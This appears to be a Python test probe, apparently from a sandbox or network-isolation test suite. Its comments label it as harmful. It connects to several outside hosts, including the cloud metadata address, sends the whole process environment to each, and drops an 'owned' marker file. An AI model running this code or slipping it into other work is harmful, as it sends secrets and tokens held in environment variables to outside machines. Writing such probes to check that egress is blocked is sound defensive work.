# where: first
# kind: harms
# does: A connection to a machine outside is made, by number and by name, and the environment is sent there.
import os
import socket
import urllib.request

for address in (("1.1.1.1", 80), ("8.8.8.8", 53), ("169.254.169.254", 80), ("example.org", 443), ("localhost", 22)):
    try:
        with socket.create_connection(address, timeout=2) as connection:
            connection.sendall(repr(dict(os.environ)).encode())
            open("@HOME@/owned", "w").close()
    except Exception as error:
        print(address, error)
try:
    urllib.request.urlopen("http://example.org", timeout=2)
    open("@HOME@/owned", "w").close()
except Exception as error:
    print(error)
